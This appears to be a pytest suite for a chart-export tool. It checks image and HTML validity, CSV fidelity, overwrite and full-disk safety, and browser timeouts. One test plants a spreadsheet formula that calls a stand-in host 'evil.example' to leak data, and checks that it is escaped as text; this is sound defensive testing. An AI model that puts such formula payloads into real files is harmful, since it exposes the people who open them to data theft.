"""Exported files are valid: PNG and SVG parse, HTML works offline, CSV matches the chart."""

from __future__ import annotations

import errno
import io
import os
import pathlib
import re
import shutil
import struct
import subprocess
import sys
import time
import xml.etree.ElementTree as ET
import zipfile

import pandas as pd
import pytest

import cli
from claims.model import load_claims
from exports import ExportError, export_pages, export_tables, page_charts
from registry import load_registry
from store import DEFAULT_DATA, Catalog
from views import PAGES, page_views


def _shipped(root) -> Catalog:
    """The default data with an empty user history, as a fresh machine exports it."""
    return Catalog(DEFAULT_DATA, root / "user-data")


def _chromium() -> None:
    if not (shutil.which("chromium") or shutil.which("chromium-browser")):
        if os.environ.get("CI"):
            pytest.fail("CI must install Chromium (see .ci/run)")
        pytest.skip("Chromium is not installed")


@pytest.fixture(scope="module")
def compare_zip(tmp_path_factory):
    _chromium()
    out = tmp_path_factory.mktemp("export") / "compare.zip"
    names = export_pages("compare", out, catalog=_shipped(out.parent))
    return out, names


def test_every_compare_chart_is_exported_in_every_format(compare_zip):
    out, names = compare_zip
    with zipfile.ZipFile(out) as archive:
        assert sorted(archive.namelist()) == names
    for chart in ("stars", "forks", "open_issues", "downloads"):
        for fmt in ("png", "svg", "html", "csv"):
            assert f"compare/{chart}.{fmt}" in names
    assert "compare/METHODS.md" in names


def test_png_and_svg_files_parse(compare_zip):
    out, _ = compare_zip
    with zipfile.ZipFile(out) as archive:
        png = archive.read("compare/stars.png")
        svg = archive.read("compare/stars.svg")
    assert png[:8] == b"\x89PNG\r\n\x1a\n" and png[12:16] == b"IHDR"
    assert struct.unpack(">II", png[16:24]) == (1100, 480)  # the chart's own height, as in the app
    root = ET.fromstring(svg)
    assert root.tag.endswith("svg")
    assert "Stars" in svg.decode()


def test_the_html_files_share_one_plotly_js_and_open_offline(compare_zip, tmp_path):
    """plotly.js (4.8 MB) is shipped once per export, beside the page folders, instead of
    inside every HTML file; each file still draws its chart from file:// with no network."""
    out, names = compare_zip
    assert names.count("plotly.min.js") == 1
    with zipfile.ZipFile(out) as archive:
        html = archive.read("compare/stars.html").decode()
        assert archive.getinfo("plotly.min.js").file_size > 3_000_000
        archive.extractall(tmp_path)
    assert len(html) < 1_000_000  # the data, not plotly.js
    scripts = re.findall(r'<script[^>]*src="([^"]+)"', html)
    assert scripts == ["../plotly.min.js"]  # relative: nothing loaded from the network
    assert (tmp_path / "compare" / scripts[0]).resolve() == tmp_path / "plotly.min.js"
    assert "TensorFlow" in html

    playwright_api = pytest.importorskip("playwright.sync_api")
    from tests.browsing import CHROMIUM_ARGS, chromium_path

    requests: list[str] = []
    with playwright_api.sync_playwright() as driver:
        browser = driver.chromium.launch(executable_path=chromium_path(), args=CHROMIUM_ARGS)
        try:
            page = browser.new_page()
            errors: list[str] = []
            page.on("pageerror", lambda error: errors.append(str(error)))
            page.on("request", lambda request: requests.append(request.url))
            page.goto((tmp_path / "compare" / "stars.html").as_uri())
            page.wait_for_selector(".js-plotly-plot .main-svg", timeout=30_000)
            legend = page.locator(".legendtext").all_text_contents()
        finally:
            browser.close()
    assert not errors
    assert "TensorFlow" in legend
    assert all(url.startswith("file://") for url in requests), requests


def test_csv_holds_exactly_the_data_drawn(compare_zip):
    out, _ = compare_zip
    with zipfile.ZipFile(out) as archive:
        data = pd.read_csv(io.BytesIO(archive.read("compare/stars.csv")), parse_dates=["date"])
    charts = {c.name: c for c in page_charts("compare", load_registry(), _tables())}
    figure = charts["stars"].figure
    lines = [trace for trace in figure.data if trace.showlegend is not False]
    assert {t.name for t in lines} == set(data["series"])
    for trace in figure.data:
        drawn = pd.Series(trace.y, dtype="float64").dropna().to_numpy()
        rows = data[data["series"] == trace.name].sort_values("date")["value"].to_numpy()
        if trace in lines:
            assert (drawn == rows).all(), trace.name
        else:  # the markers for isolated observations: a subset of the same rows
            assert set(drawn) <= set(rows), trace.name
    tf = data[data["series"] == "TensorFlow"].sort_values("date").iloc[-1]
    assert tf["value"] == 197213 and str(tf["date"].date()) == "2026-08-22"


def test_methods_note_names_sources_and_dates(compare_zip):
    out, _ = compare_zip
    with zipfile.ZipFile(out) as archive:
        note = archive.read("compare/METHODS.md").decode()
    assert "data as of 2026-08-22" in note and "MIT License" in note
    assert "never zero" in note


def test_tables_export_without_a_browser_into_a_folder(tmp_path):
    names = export_pages("overview", tmp_path / "out", catalog=_shipped(tmp_path), formats=["csv"])
    assert names == [
        "overview/METHODS.md",
        "overview/claims-verdicts.csv",
        "overview/claims-vs-cohort.csv",
        "overview/cohort.csv",
        "overview/tracked-projects.csv",
    ]
    tracked = pd.read_csv(tmp_path / "out" / "overview" / "tracked-projects.csv")
    assert tracked.set_index("project").loc["GPT", "download_growth_12m"] != 0
    assert pd.isna(tracked.set_index("project").loc["GPT", "download_growth_12m"])


def test_the_claims_page_exports_its_matrix_and_one_evidence_chart_per_claim(tmp_path):
    assert (
        cli.main(["export", "--page", "claims", "--out", str(tmp_path), "--formats", "csv,html"])
        == 0
    )
    names = sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*.*"))
    claims = [c.id for c in load_claims()]
    for stem in ["verdicts", *(f"claim-{c}" for c in claims)]:
        assert f"claims/{stem}.csv" in names and f"claims/{stem}.html" in names
    evidence = pd.read_csv(tmp_path / "claims" / "claim-access.csv")
    assert {"indicator", "subject", "kind", "value", "threshold"} <= set(evidence.columns)
    charts = {c.name: c for c in page_charts("claims", load_registry(), _tables())}
    drawn = sorted(
        float(x) for t in charts["claim-access"].figure.data if t.x is not None for x in t.x
    )
    assert drawn == sorted(evidence["value"].dropna())  # the CSV holds what is drawn
    html = (tmp_path / "claims" / "claim-access.html").read_text()
    assert "Democratizes access" in html


def test_bad_requests_are_refused_clearly(tmp_path, monkeypatch):
    with pytest.raises(ValueError, match="unknown page 'nope'"):
        export_pages("nope", tmp_path / "x", catalog=_shipped(tmp_path), formats=["csv"])
    with pytest.raises(ValueError, match="unknown formats"):
        export_pages("compare", tmp_path / "x", catalog=_shipped(tmp_path), formats=["gif"])
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    with pytest.raises(ExportError, match="cannot write"):
        export_pages(
            "overview", blocker / "inside.zip", catalog=_shipped(tmp_path), formats=["csv"]
        )
    assert cli.main(["export", "--page", "nope", "--out", str(tmp_path / "y")]) == cli.EXIT_USAGE


def test_each_kind_of_failure_has_its_own_documented_exit_code(tmp_path, monkeypatch, capsys):
    """A missing Chromium is not a wrong command line: the CLI says which it is."""
    import exports

    def no_browser(figure, fmt):
        raise exports.ExportError("PNG and SVG need a Chromium: apt-get install chromium")

    monkeypatch.setattr(exports, "figure_bytes", no_browser)
    out = str(tmp_path / "x.zip")
    assert cli.main(["export", "--page", "compare", "--formats", "png", "--out", out]) == 6
    assert "need a Chromium" in capsys.readouterr().err
    codes = {line.split()[0] for line in cli.EXIT_CODES.splitlines()[1:] if line[2] != " "}
    assert codes == {"0", "2", "3", "4", "5", "6", "7", "8"}


def _tables():
    return export_tables(Catalog(DEFAULT_DATA, "/nonexistent-user-dir"))


@pytest.mark.parametrize("page", PAGES)
def test_the_export_writes_exactly_the_views_the_page_shows(page, tmp_path):
    views = page_views(page, load_registry(), _tables(), load_claims())
    names = export_pages(page, tmp_path / "out", catalog=_shipped(tmp_path), formats=["csv"])
    assert names == sorted([f"{page}/METHODS.md", *(f"{page}/{v.name}.csv" for v in views)])
    assert len({v.name for v in views}) == len(views)  # one file per view


def test_an_export_never_replaces_what_is_there_unless_asked(tmp_path):
    """An existing file or a non-empty folder is refused (nothing is written or replaced);
    `--overwrite` replaces it; any case of .zip makes a zip whose files all can read."""
    out = tmp_path / "charts.ZIP"
    names = export_pages("overview", out, catalog=_shipped(tmp_path), formats=["csv"])
    with zipfile.ZipFile(out) as archive:
        assert sorted(archive.namelist()) == names
        modes = {info.external_attr >> 16 & 0o777 for info in archive.infolist()}
    assert modes == {0o644}
    before = out.read_bytes()
    with pytest.raises(ExportError, match=r"already exists.*--overwrite"):
        export_pages("overview", out, catalog=_shipped(tmp_path), formats=["csv"])
    assert out.read_bytes() == before
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / "mine.txt").write_text("keep me")
    code = cli.main(["export", "--page", "overview", "--formats", "csv", "--out", str(folder)])
    assert code == cli.EXIT_EXPORT and sorted(p.name for p in folder.iterdir()) == ["mine.txt"]
    assert (
        cli.main(
            [
                "export",
                "--page",
                "overview",
                "--formats",
                "csv",
                "--out",
                str(folder),
                "--overwrite",
            ]
        )
        == 0
    )
    assert (folder / "overview" / "METHODS.md").is_file() and (folder / "mine.txt").is_file()


# --- a full disk: a failed export leaves nothing behind, and a retry works ---------------


@pytest.fixture
def disk_fills_up(monkeypatch):
    """Call it with `room` (bytes): from then on, files opened for writing share that much
    room, and the write that does not fit writes what fits and fails with ENOSPC, as on a
    full disk. `room=None` frees the disk again."""
    real_open = pathlib.Path.open
    state: dict[str, int | None] = {"room": None}

    class Filling:
        def __init__(self, stream):
            self._stream = stream

        def write(self, data):
            room = state["room"]
            if room is not None and len(data) > room:
                self._stream.write(data[:room])
                state["room"] = 0
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
            if room is not None:
                state["room"] = room - len(data)
            return self._stream.write(data)

        def __getattr__(self, name):
            return getattr(self._stream, name)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            self._stream.close()

    def opening(self, mode="r", *args, **kwargs):
        stream = real_open(self, mode, *args, **kwargs)
        if state["room"] is None or "b" not in mode or not set(mode) & set("wax"):
            return stream
        return Filling(stream)

    monkeypatch.setattr(pathlib.Path, "open", opening)

    def fill(room: int | None) -> None:
        state["room"] = room

    return fill


def _tree(folder: pathlib.Path) -> dict[str, bytes]:
    """Every file and folder under `folder` (hidden ones too), with the files' bytes."""
    return {
        p.relative_to(folder).as_posix(): (p.read_bytes() if p.is_file() else b"<dir>")
        for p in sorted(folder.rglob("*"))
    }


@pytest.mark.parametrize("target", ["overview", "overview.zip"])
def test_an_export_that_fills_the_disk_leaves_nothing_behind_and_a_retry_works(
    target, tmp_path, disk_fills_up, capsys
):
    folder = tmp_path / "exports"
    (folder / "older").mkdir(parents=True)
    (folder / "notes.txt").write_text("mine")
    before = _tree(folder)
    args = ["export", "--page", "overview", "--formats", "csv,html", "--out"]
    disk_fills_up(1_000_000)  # the CSV files fit; plotly.min.js (4.8 MB) does not
    assert cli.main([*args, str(folder / target)]) == cli.EXIT_EXPORT
    error = capsys.readouterr().err
    assert "No space left on device" in error and "Traceback" not in error
    assert _tree(folder) == before  # no temporary file, no partial file, no new folder
    disk_fills_up(None)
    assert cli.main([*args, str(folder / target)]) == 0  # not refused as "not empty"
    assert (folder / target).exists() and (folder / "notes.txt").read_text() == "mine"


@pytest.mark.parametrize("target", ["overview", "overview.zip"])
def test_a_failed_overwrite_keeps_the_earlier_export_and_the_users_files(
    target, tmp_path, disk_fills_up
):
    out = tmp_path / target
    export_pages("overview", out, catalog=_shipped(tmp_path), formats=["csv"])
    if out.is_dir():
        (out / "my-notes.txt").write_text("mine")
    before = _tree(tmp_path / target) if out.is_dir() else out.read_bytes()
    disk_fills_up(1_000_000)
    with pytest.raises(ExportError, match="No space left on device"):
        export_pages(
            "overview", out, catalog=_shipped(tmp_path), formats=["csv", "html"], overwrite=True
        )
    after = _tree(tmp_path / target) if out.is_dir() else out.read_bytes()
    assert after == before
    assert [p.name for p in tmp_path.iterdir()] == [target]  # no temporary file beside it


# --- no browser, or one that hangs: exit 6 at once, the HTML and CSV all the same ----------

ROOT = pathlib.Path(__file__).resolve().parent.parent


def test_without_chromium_the_export_exits_6_at_once_and_writes_the_html_and_csv(tmp_path):
    """kaleido's server thread used to die on the missing browser and leave the export
    waiting forever; now the browser is looked up first (as kaleido does it)."""
    env = {
        **os.environ,
        "BROWSER_PATH": str(tmp_path / "no-browser-here"),  # kaleido looks here and only here
        "HOME": str(tmp_path / "home"),  # and no browser that kaleido downloaded itself
    }
    out = tmp_path / "out"
    command = [sys.executable, "cli.py", "export", "--page", "compare", "--out", str(out)]
    done = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=240)
    assert done.returncode == cli.EXIT_EXPORT, done.stderr
    assert "apt-get install chromium" in done.stderr and "Traceback" not in done.stderr
    assert "were written to" in done.stderr
    written = sorted(p.relative_to(out).as_posix() for p in out.rglob("*") if p.is_file())
    for chart in ("stars", "forks", "open_issues", "downloads"):
        assert f"compare/{chart}.html" in written and f"compare/{chart}.csv" in written
    assert "plotly.min.js" in written and "compare/METHODS.md" in written
    assert not [name for name in written if name.endswith((".png", ".svg"))]


def test_a_missing_browser_is_reported_in_seconds_with_the_install_hint(tmp_path, monkeypatch):
    import plotly.graph_objects as go

    import exports

    monkeypatch.setenv("BROWSER_PATH", str(tmp_path / "no-browser-here"))
    monkeypatch.setenv("HOME", str(tmp_path))
    start = time.monotonic()
    with pytest.raises(ExportError, match="apt-get install chromium"):
        exports.figure_bytes(go.Figure(), "png")
    assert time.monotonic() - start < 5


def _alive(pid: int) -> bool:
    try:
        state = pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in ("Z", "X")


def test_a_browser_that_never_answers_is_given_up_on_and_killed(tmp_path, monkeypatch):
    import exports

    pid_file = tmp_path / "browser.pid"
    browser = tmp_path / "chromium"
    browser.write_text(f"#!/bin/sh\necho $$ > {pid_file}\nexec sleep 600\n")
    browser.chmod(0o755)
    monkeypatch.setenv("BROWSER_PATH", str(browser))
    monkeypatch.setattr(exports, "START_SECONDS", 2)
    out = tmp_path / "out"
    start = time.monotonic()
    with pytest.raises(ExportError, match="did not start within 2 s") as failed:
        export_pages("compare", out, catalog=_shipped(tmp_path), formats=["png", "csv"])
    assert time.monotonic() - start < 60
    assert "compare/stars.csv" in failed.value.written and (out / "compare/stars.csv").is_file()
    assert not list(out.rglob("*.png"))
    pid = int(pid_file.read_text())
    deadline = time.monotonic() + 10
    while _alive(pid) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not _alive(pid), "the hung browser was left running"


def test_a_render_that_hangs_is_cut_off(monkeypatch):
    _chromium()
    import asyncio

    import kaleido
    import plotly.graph_objects as go

    import exports

    async def never(self, *args, **kwargs):
        await asyncio.sleep(3600)

    monkeypatch.setattr(kaleido.Kaleido, "calc_fig", never)
    monkeypatch.setattr(exports, "IMAGE_SECONDS", 1)
    start = time.monotonic()
    with pytest.raises(ExportError, match="did not render a PNG within 1 s"):
        exports.figure_bytes(go.Figure(go.Scatter(y=[1, 2])), "png")
    assert time.monotonic() - start < 60


# --- CSV cells a spreadsheet would run ---------------------------------------------------


def test_a_name_that_is_a_formula_is_exported_as_text(tmp_path):
    from registry.projects import DEFAULT_REGISTRY

    formula = '=HYPERLINK("http://evil.example/?leak","Keras")'
    projects = tmp_path / "projects.toml"
    escaped = formula.replace('"', '\\"')  # a TOML string
    projects.write_text(
        DEFAULT_REGISTRY.read_text().replace('name = "Keras"', f'name = "{escaped}"', 1)
    )
    assert formula in {project.name for project in load_registry(projects)}
    out = tmp_path / "out"
    export_pages(
        "all", out, catalog=_shipped(tmp_path), registry=load_registry(projects), formats=["csv"]
    )
    tracked = pd.read_csv(out / "overview" / "tracked-projects.csv")
    assert "'" + formula in set(tracked["project"])
    stars = pd.read_csv(out / "compare" / "stars.csv")
    assert "'" + formula in set(stars["series"])
    for path in out.rglob("*.csv"):  # no text cell anywhere starts a formula
        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
        for column in frame:
            for value in frame[column]:
                if value[:1] in ("=", "+", "@", "\t", "\r"):
                    raise AssertionError(f"{path.name}: {column} = {value!r}")
    evidence = pd.read_csv(out / "claims" / "claim-access.csv")  # negative numbers stay numbers
    assert evidence["value"].dtype == "float64" and (evidence["value"] < 0).any()


def test_csv_cells_are_escaped_by_the_owasp_rule_and_numbers_are_left_alone():
    from exports import csv_bytes

    frame = pd.DataFrame(
        {
            "name": ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx", "-3.5", "plain", None],
            "value": [-1.5, -2, 0, 1, 2, 3, 4, 5, float("nan")],
            "=header": ["a"] * 9,
        }
    )
    rows = csv_bytes(frame).decode().split("\n")
    assert rows[0] == "name,value,'=header"
    assert [row.split(",")[0] for row in rows[1:7]] == [
        "'=1+1",
        "'+SUM(A1)",
        "'-2+3",
        "'@cmd",
        "'\tx",
        "'\rx",
    ]
    assert rows[7].startswith("-3.5,") and rows[8].startswith("plain,")  # a number as text
    assert [row.split(",")[1] for row in rows[1:3]] == ["-1.5", "-2.0"]  # numbers untouched
